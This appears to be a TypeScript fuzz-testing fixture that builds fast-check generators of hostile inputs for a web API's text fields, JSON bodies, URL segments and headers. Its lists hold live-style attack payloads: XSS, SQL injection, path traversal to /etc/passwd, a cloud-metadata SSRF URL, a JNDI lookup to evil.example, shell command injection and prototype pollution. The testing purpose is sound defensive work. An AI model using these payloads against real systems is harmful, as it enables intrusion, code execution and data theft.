/** @file Input of attackers and of broken programs. */
import fc from 'fast-check';

/** Appears in an HTML answer only when text was inserted unescaped. */
export const markup = '<script>alert("fuzz")</script>';
/** As above, from within an attribute. */
export const brokenAttribute = '"><img src=x onerror=alert("fuzz")>';

const longest = 5000;

/** Texts that break code which takes them for something other than text. */
export const hostileTexts: readonly string[] = [
  markup,
  brokenAttribute,
  "';alert('fuzz')//",
  '</textarea></title></script><svg onload=alert("fuzz")>',
  'javascript:alert("fuzz")',
  '\0',
  'a\0b',
  '\u0001\u0008\u007f\u009f',
  'line\r\nBcc: stranger@evil.example\r\n\r\nbody',
  'line\nSubject: other',
  '\u2028\u2029\u0085',
  '\u202egnp.exe\u202c\u2066\u2069',
  '\ud800',
  'a\udc00b',
  '👩‍👩‍👧‍👦 नमस्ते ﷺ Z̷̝̈a̶l̴g̵o',
  'İIiıßẞﬃ',
  '\ufeff\u200b\u200d\u00ad',
  '　\u00a0',
  '   ',
  '',
  "' or 1=1; drop table vendors; --",
  '%_\\%\\',
  '$1 $$ {0} {{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '//evil.example/x',
  'https://www.instagram.com@evil.example/a',
  'https://www.instagram.com.evil.example/a',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '1e999',
  '0x1F',
  '999999999999999999999',
  '2026-02-30',
  '0000-00-00',
  '+275760-09-13',
  '${jndi:ldap://evil.example/a}',
  '`id`; $(id) | id',
  'a'.repeat(longest),
  '👩'.repeat(longest / 2),
  `${'a'.repeat(40)}!`,
  `${'1'.repeat(60)}.`,
  `${'a@'.repeat(60)}`,
  `https://www.facebook.com/${'a/'.repeat(80)}`,
  `${'('.repeat(500)}${')'.repeat(500)}`,
];

const nested = (depth: number, wrap: (inner: unknown) => unknown): unknown =>
  Array.from({ length: depth }).reduce((inner) => wrap(inner), 1);

/** Keys that name something in every object; made by the parser, since a literal would set the prototype. */
const poisoned: readonly unknown[] = [
  JSON.parse('{"__proto__":{"polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
  JSON.parse('{"toString":1,"valueOf":1,"toJSON":1,"then":1,"length":-1}'),
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
);

/** Any JSON value other than text. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, 0, -0, -1, 1.5, 1e308, 2 ** 53, [], {}, [[]], ...poisoned),
  fc.constantFrom<unknown>(
    nested(2000, (inner) => [inner]),
    nested(1000, (inner) => ({ a: inner })),
    Array.from({ length: 5000 }, (_, index) => index),
    Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`key${index}`, ''])),
  ),
  fc.jsonValue(),
  fc.array(hostileText, { maxLength: 4 }),
  fc.dictionary(hostileText, hostileText, { maxKeys: 4 }),
);

/** Unexpected keys: those that suggest privileges, and those that reach the prototype. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    '_id',
    'id',
    'role',
    'isAdmin',
    'isSample',
    'status',
    'passwordHash',
    'deletedAt',
    'rating',
  ),
  hostileText,
);

/** Bodies that do not match their content type, or have an unknown one. */
export const hostileBody: fc.Arbitrary<{ type: string | undefined; bytes: Buffer }> = fc.record({
  type: fc.constantFrom(
    'application/json',
    'application/json; charset=utf-16',
    'application/json;charset="',
    'APPLICATION/JSON',
    'application/json, text/html',
    'application/problem+json',
    'application/x-www-form-urlencoded',
    'multipart/form-data',
    'multipart/form-data; boundary=',
    'multipart/form-data; boundary=x',
    'text/plain',
    'text/html',
    'application/xml',
    'application/octet-stream',
    '*/*',
    'nonsense',
    undefined,
  ),
  bytes: fc.oneof(
    fc
      .constantFrom(
        '',
        '{',
        '{"name":',
        '{"name":"a"}}',
        '[1,',
        'null',
        '"text"',
        '0',
        '{"__proto__":{"polluted":true}}',
        '{"constructor":{"prototype":{"polluted":true}}}',
        '{"name":"a","name":"b"}',
        '{"a":1e999}',
        '{"\\u0000":"\\ud800"}',
        '\ufeff{}',
        `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
        `{"name":"${'a'.repeat(70_000)}"}`,
        `name=${encodeURIComponent(markup)}&name[__proto__]=1`,
        '--x\r\nContent-Disposition: form-data; name="profilepicture"; filename="../../a.svg"\r\n\r\n<svg onload=alert(1)>\r\n--x--\r\n',
        '--x\r\nContent-Disposition: form-data; name="__proto__"\r\n\r\n1\r\n--x--\r\n',
        `--x\r\n${'A: b\r\n'.repeat(500)}`,
        '--x',
      )
      .map((text) => Buffer.from(text)),
    fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
  ),
});

/** Segments of an address, escaped or broken. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '%',
    '%00',
    '%zz',
    '%ff%fe',
    '%c0%ae%c0%ae%c0%af',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e',
    '.',
    '%5c..%5c',
    '%252e%252e%252f',
    ':secret',
    '*',
    'x'.repeat(600),
    'constructor',
    '__proto__',
  ),
  hostileText.map((text) => encodeURIComponent(text.toWellFormed())),
);

const printable = (text: string) => text.replaceAll(/[^\u0020-\u007e]/g, '').slice(0, 1000);

/** Headers that must not be trusted, with values that a client can send. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.constantFrom(
    'accept',
    'accept-encoding',
    'accept-language',
    'content-encoding',
    'cookie',
    'expect-ct',
    'forwarded',
    'host',
    'idempotency-key',
    'if-modified-since',
    'if-none-match',
    'origin',
    'range',
    'referer',
    'user-agent',
    'x-form',
    'x-forwarded-for',
    'x-forwarded-host',
    'x-forwarded-proto',
    'x-http-method-override',
    'x-internal-call',
    'x-original-url',
  ),
  fc.oneof(
    hostileText.map(printable),
    fc.constantFrom(
      'gzip',
      'br;q=nan',
      'bytes=0-',
      '*',
      '"x"',
      'null',
      'https://evil.example',
      'evil.example',
      '127.0.0.1',
    ),
  ),
  { maxKeys: 4 },
);
